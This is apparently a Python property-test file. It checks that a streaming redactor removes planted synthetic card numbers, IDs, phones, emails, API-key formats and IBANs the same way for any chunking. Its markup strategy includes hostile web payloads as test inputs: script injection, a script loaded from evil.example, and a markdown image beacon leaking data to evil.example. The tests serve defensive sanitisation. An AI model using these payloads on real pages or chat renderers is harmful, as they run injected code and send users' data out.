"""Property tests: the streaming redactor equals the one-shot one, for any chunking of any text."""

from __future__ import annotations

import itertools
from dataclasses import dataclass

from hypothesis import given
from hypothesis import strategies as st

from service.pipeline.redact import (
    RedactionPolicy,
    StreamRedactor,
    load_redaction_policy,
    redact_text,
)

CANARY = "ZQX-Canary-81F"
POLICY = load_redaction_policy()  # module level: Hypothesis tests cannot take function fixtures


@dataclass(frozen=True)
class Planted:
    """A sensitive value put into the text, what the client should see instead, and its secret."""

    text: str
    expected: str
    secret: str  # the part that must never reach the output
    blocks: bool = False


def _luhn_complete(body: str) -> str:
    """`body` plus the check digit that makes the number Luhn-valid (written independently)."""
    digits = [int(d) for d in body + "0"][::-1]
    total = sum(d if i % 2 == 0 else sum(divmod(d * 2, 10)) for i, d in enumerate(digits))
    return body + str((10 - total % 10) % 10)


def _id_complete(body: str) -> str:
    weights = [2 ** (17 - i) % 11 for i in range(17)]
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


digits = st.text(alphabet="0123456789", min_size=1, max_size=1)


def _groups(number: str, sep: str) -> str:
    return sep.join(number[i : i + 4] for i in range(0, len(number), 4))


@st.composite
def cards(draw: st.DrawFn) -> Planted:
    length = draw(st.sampled_from([15, 16, 19]))
    body = draw(st.sampled_from("23456")) + draw(
        st.text("0123456789", min_size=length - 2, max_size=length - 2)
    )
    number = _luhn_complete(body)
    text = _groups(
        number, draw(st.sampled_from(["", " ", "-", ".", "/", "\u00a0", "\u200b", "  "]))
    )
    return Planted(text, "[card]", number)


@st.composite
def cn_ids(draw: st.DrawFn) -> Planted:
    area = draw(st.text("0123456789", min_size=6, max_size=6))
    born = draw(st.dates()).strftime("%Y%m%d").rjust(8, "0")
    body = area + born + draw(st.text("0123456789", min_size=3, max_size=3))
    number = _id_complete(body)
    return Planted(number, "[id]", number)


@st.composite
def phones(draw: st.DrawFn) -> Planted:
    mobile = (
        "1" + draw(st.sampled_from("3456789")) + draw(st.text("0123456789", min_size=9, max_size=9))
    )
    if draw(st.booleans()):
        sep = draw(st.sampled_from(["", " ", "-"]))
        prefix = draw(st.sampled_from(["", "+86 ", "+86", "86 ", "0086 "]))
        return Planted(prefix + sep.join([mobile[:3], mobile[3:7], mobile[7:]]), "[phone]", mobile)
    country = str(draw(st.integers(1, 99)))
    rest = draw(st.text("0123456789", min_size=7, max_size=13 - len(country)))
    sep = draw(st.sampled_from([" ", "-", "."]))
    if draw(st.booleans()):
        grouped = f"({rest[:3]}) {rest[3:6]}{sep}{rest[6:]}"
    else:
        grouped = f"{rest[:3]}{sep}{rest[3:]}"
    return Planted(f"+{country} {grouped}", "[phone]", f"{country} {grouped}")


@st.composite
def emails(draw: st.DrawFn) -> Planted:
    local = draw(st.from_regex(r"[a-z][a-z0-9._]{0,15}[a-z0-9]", fullmatch=True))
    domain = draw(
        st.from_regex(r"[a-z0-9]{1,10}(\.[a-z0-9]{1,8}){0,2}\.[a-z]{2,6}", fullmatch=True)
    )
    address = f"{local}@{domain}"
    return Planted(address, "[email]", address)


key_chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


@st.composite
def secrets(draw: st.DrawFn) -> Planted:
    token = draw(st.text(key_chars, min_size=36, max_size=48))
    upper = draw(st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", min_size=16, max_size=16))
    value = draw(st.text(key_chars, min_size=6, max_size=20)) + draw(digits)
    choices = [
        Planted(f"sk-{token}", "[secret]", token),
        Planted(f"sk-proj-{token}", "[secret]", token),
        Planted(f"AKIA{upper}", "[secret]", upper),
        Planted(f"ghp_{token}", "[secret]", token),
        Planted(f"Bearer {token}", "Bearer [secret]", token),
        Planted(f"api_key={value}", "api_key=[secret]", value),
        Planted(f"password: {value}", "password: [secret]", value),
        Planted(f"密码：{value}", "密码：[secret]", value),
        Planted(f"我的密码是{value}", "我的密码是[secret]", value),
        Planted(f"DB_PASSWORD={value}", "DB_PASSWORD=[secret]", value),
        Planted(f"AIza{token[:35]}", "[secret]", token[:35]),
        Planted(f"xoxb-{token[:20]}", "[secret]", token[:20]),
        Planted(f"eyJ{token[:10]}.eyJ{token[10:20]}.{token[20:]}", "[secret]", token[20:]),
    ]
    return draw(st.sampled_from(choices))


def _iban_complete(country: str, bban: str) -> str:
    """An IBAN with its two check digits (ISO 7064 mod 97-10, computed independently)."""
    numeric = "".join(str(int(ch, 36)) for ch in bban + country + "00")
    return f"{country}{98 - int(numeric) % 97:02d}{bban}"


@st.composite
def accounts(draw: st.DrawFn) -> Planted:
    """IBANs, US SSNs and IP addresses."""
    bban = draw(st.text("0123456789", min_size=18, max_size=18))
    iban = _iban_complete(draw(st.sampled_from(["DE", "FR", "NL"])), bban)
    grouped = " ".join(iban[i : i + 4] for i in range(0, len(iban), 4))
    area = draw(st.integers(1, 665))
    ssn = f"{area:03d}-{draw(st.integers(1, 99)):02d}-{draw(st.integers(1, 9999)):04d}"
    octets = draw(st.lists(st.integers(0, 255), min_size=4, max_size=4))
    ipv4 = ".".join(map(str, octets))
    groups = draw(st.lists(st.integers(0x1000, 0xFFFF), min_size=8, max_size=8))
    ipv6 = ":".join(f"{g:x}" for g in groups)
    choices = [
        Planted(draw(st.sampled_from([iban, grouped])), "[iban]", bban[:8]),
        Planted(ssn, "[ssn]", ssn),
        Planted(ipv4, "[ip]", ipv4),
        Planted(ipv6, "[ip]", ipv6),
    ]
    return draw(st.sampled_from(choices))


@st.composite
def markup(draw: st.DrawFn) -> Planted:
    payload = draw(st.text("abcdefxyz0123456789", min_size=1, max_size=12))
    choices = [
        Planted(f"<script>steal('{payload}')</script>", "", f"steal('{payload}')"),
        Planted(f'<SCRIPT src="https://evil.example/{payload}.js"></script >', "", "evil.example"),
        Planted(f"![logo](https://evil.example/p.png?d={payload})", "", "evil.example"),
        Planted(f'<img src=x onerror="go({payload})">', "", "onerror"),
        Planted(f"<iframe src='https://evil.example/{payload}'>", "", "iframe"),
        Planted(f"[click](javascript:go({payload}))", f"[click](go({payload}))", "javascript"),
    ]
    return draw(st.sampled_from(choices))


@st.composite
def canaries(draw: st.DrawFn) -> Planted:
    text = "".join(ch.upper() if draw(st.booleans()) else ch.lower() for ch in CANARY)
    sep = draw(st.sampled_from(["", "", " ", "\u200b", "."]))
    text = sep.join(text) if sep else text
    if draw(st.booleans()):
        text = text[::-1]
    return Planted(text, "", text, blocks=True)


planted_values = st.one_of(
    cards(), cn_ids(), phones(), emails(), secrets(), accounts(), markup(), canaries()
)

WORDS = [
    "hello",
    "refund",
    "order",
    "please",
    "thanks",
    "the",
    "your",
    "we",
    "ship",
    "today",
    "Hi",
    "OK",
]
CJK = ["您好", "退款", "订单", "请问", "谢谢", "已经", "发货", "客服", "我们", "今天"]
filler_token = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(CJK),
    # A count, never a bare number: bare numbers side by side ("130 10 100 100") spell a phone
    # number, which the redactor rightly masks.
    st.integers(0, 999).map("{} items".format),
    st.sampled_from([",", ".", "?", "，", "。", "！", "?"]),
)
filler = st.lists(filler_token, max_size=6).map(" ".join)
left_wrap = st.sampled_from(["，", "：", "\n", " | ", "（"])
right_wrap = st.sampled_from(["。", "，", "\n", " | ", "）"])


@st.composite
def documents(draw: st.DrawFn) -> tuple[str, str, list[Planted]]:
    """A text of filler with planted values, and the output the redactor must produce."""
    text, expected, planted = [draw(filler)], [], []
    expected.append(text[0])
    for value in draw(st.lists(planted_values, max_size=5)):
        left, right, after = draw(left_wrap), draw(right_wrap), draw(filler)
        text += [left, value.text, right, after]
        planted.append(value)
        if not any(p.blocks for p in planted[:-1]):
            expected += [left] if value.blocks else [left, value.expected, right, after]
    return "".join(text), "".join(expected), planted


def chunked(text: str, sizes: list[int]) -> list[str]:
    chunks, at = [], 0
    for size in itertools.cycle(sizes):
        if at >= len(text):
            return chunks
        chunks.append(text[at : at + size])
        at += size
    return chunks


def stream(
    text: str, sizes: list[int], policy: RedactionPolicy = POLICY
) -> tuple[str, StreamRedactor]:
    redactor = StreamRedactor(policy, canaries=[CANARY])
    out = [redactor.feed(chunk) for chunk in chunked(text, sizes)]
    return "".join(out) + redactor.flush(), redactor


chunk_sizes = st.lists(st.integers(1, 12), min_size=1, max_size=8)


@given(documents(), chunk_sizes)
def test_stream_equals_one_shot_for_planted_values(
    doc: tuple[str, str, list[Planted]], sizes: list[int]
) -> None:
    """Any chunking of a text with planted values streams out exactly the one-shot result."""
    text, _, _ = doc
    out, redactor = stream(text, sizes)
    once = redact_text(text, POLICY, canaries=[CANARY])
    assert out == once.text
    assert redactor.counts == once.counts
    assert redactor.blocked_kind == once.blocked_kind


@given(documents(), chunk_sizes)
def test_planted_values_never_reach_the_output(
    doc: tuple[str, str, list[Planted]], sizes: list[int]
) -> None:
    """No planted card, ID, phone, email, secret, canary or markup survives redaction."""
    text, _, planted = doc
    out, _ = stream(text, sizes)
    for value in planted:
        assert value.secret.lower() not in out.lower()


@given(documents(), chunk_sizes)
def test_filler_is_preserved_exactly(doc: tuple[str, str, list[Planted]], sizes: list[int]) -> None:
    """Text around planted values comes out unchanged, each value replaced by its placeholder."""
    text, expected, _ = doc
    out, _ = stream(text, sizes)
    assert out == expected


@given(documents())
def test_one_character_chunks_equal_one_shot(doc: tuple[str, str, list[Planted]]) -> None:
    """Feeding one character at a time gives the one-shot result and the expected text."""
    text, expected, _ = doc
    out, _ = stream(text, [1])
    assert out == expected == redact_text(text, POLICY, canaries=[CANARY]).text


TRICKY = (
    "0123456789 +-.()@_:=<>/![]\"'aeikprstxABKISXghjvbDEyJ密码是：\n\t，。\u200b\u00a0＠＋１８–&#;"
)
fragments = st.one_of(
    st.text(TRICKY, max_size=10),
    planted_values.map(lambda p: p.text),
    st.tuples(planted_values, st.integers(0, 40)).map(lambda t: t[0].text[: t[1]]),
    st.sampled_from(
        [
            "Bearer ",
            "password",
            "javascript",
            "<script",
            "</scr",
            "ipt>",
            "![x](",
            "http://",
            "+86 ",
            "eyJ",
            "-----BEGIN ",
            "PRIVATE KEY-----",
            "-----END ",
            "&#x61;",
            "java\tscript:",
            "[ref]: ",
            "AIza",
            "xoxb-",
            "DE89 ",
            "::",
            "(415) ",
        ]
    ),
)


@given(st.lists(fragments, max_size=12).map("".join), chunk_sizes)
def test_stream_equals_one_shot_for_adversarial_text(text: str, sizes: list[int]) -> None:
    """Even for noise made of pattern fragments, streaming and one-shot results agree."""
    out, redactor = stream(text, sizes)
    once = redact_text(text, POLICY, canaries=[CANARY])
    assert (out, redactor.counts) == (once.text, once.counts)
